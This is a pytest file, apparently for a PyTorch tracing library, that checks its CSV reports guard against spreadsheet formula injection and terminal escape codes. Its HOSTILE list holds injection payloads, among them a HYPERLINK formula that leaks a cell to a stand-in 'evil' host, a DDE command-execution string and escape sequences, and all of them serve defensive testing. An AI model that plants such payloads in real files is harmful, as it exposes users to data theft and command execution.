"""CSV that neither a spreadsheet nor a terminal runs, and that reads back equal."""

from __future__ import annotations

import csv as stdlib
from dataclasses import replace

import pytest
import samples
import torch
from hypothesis import given
from hypothesis import strategies as st
from torch import nn

import shapetrace
from shapetrace.errors import ReportError
from shapetrace.views.cells import guarded, unguarded
from shapetrace.views.csv import csv, read_csv
from shapetrace.views.frame import frame

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "\x1b]0;owned\x07\x1b[2J",
    "＝1+1",
    "C:\\x41\\n",
    "\\x1b and \x1b",
    'quo"te, comma',
    "0",
    "NA",
    "‮gpj.exe",
]


@given(st.text() | st.sampled_from(HOSTILE))
def test_a_guarded_text_is_no_formula_has_no_controls_and_comes_back(text):
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in cell)


@pytest.mark.parametrize("text", ["layer.0", "C:\\data", "a-b", "2x3;4", "größer", "1"])
def test_an_ordinary_text_is_written_as_it_is(text):
    assert guarded(text) == text


def test_numbers_are_not_guarded():
    assert guarded(-3) == -3 and guarded(None) is None


def renamed(name):
    rec = samples.small_cnn()
    calls = (rec.calls[0], replace(rec.calls[1], name=name, type=name), *rec.calls[2:])
    modules = {**rec.modules, name: next(iter(rec.modules.values()))}
    return replace(rec, calls=calls, modules=modules)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_report_with_a_hostile_name_is_harmless_and_reads_back_equal(name, tmp_path):
    rec, path = renamed(name), tmp_path / "report.csv"
    csv(rec, (), path)
    with open(path, newline="", encoding="utf-8") as file:
        for row in stdlib.reader(file):
            for cell in row:
                assert cell[:1] not in tuple("=+@\t\r")
                assert cell[:1] != "-" or float(cell) < 0
    assert "\x1b" not in path.read_text() and "\a" not in path.read_text()
    back, made = read_csv(path), frame(rec)
    assert list(back.columns) == list(made.columns)
    assert list(back["name"]) == [call.name for call in rec.calls]
    for column in made:
        if column.endswith(("shapes", "dtypes")):
            continue
        assert back[column].dtype == made[column].dtype, column
        missing = back[column].isna()
        assert list(missing) == list(made[column].isna()), column
        assert list(back[column][~missing]) == list(made[column][~missing]), column


def test_measures_that_only_some_traces_have_come_back_as_numbers(tmp_path):
    model = nn.Sequential(nn.Linear(4, 3), nn.ReLU())
    with shapetrace.trace(model, memory=True, backward=True) as t:
        model(torch.ones(2, 4)).sum().backward()
    t.to_csv(tmp_path / "report.csv")
    back, made = read_csv(tmp_path / "report.csv"), t.to_dataframe()
    more = [c for c in made if c not in frame(samples.empty())]
    assert more
    for column in more:
        assert back[column].astype(made[column].dtype).equals(made[column])


@pytest.mark.parametrize("text", ["", '"', "call,name\n1,2,3,4\n", "call,name\nx,y\n"])
def test_what_is_no_report_is_refused_by_name(text, tmp_path):
    path = tmp_path / "other.csv"
    path.write_text(text)
    with pytest.raises(ReportError, match=r"other\.csv.*t\.to_csv\(path\)"):
        read_csv(path)
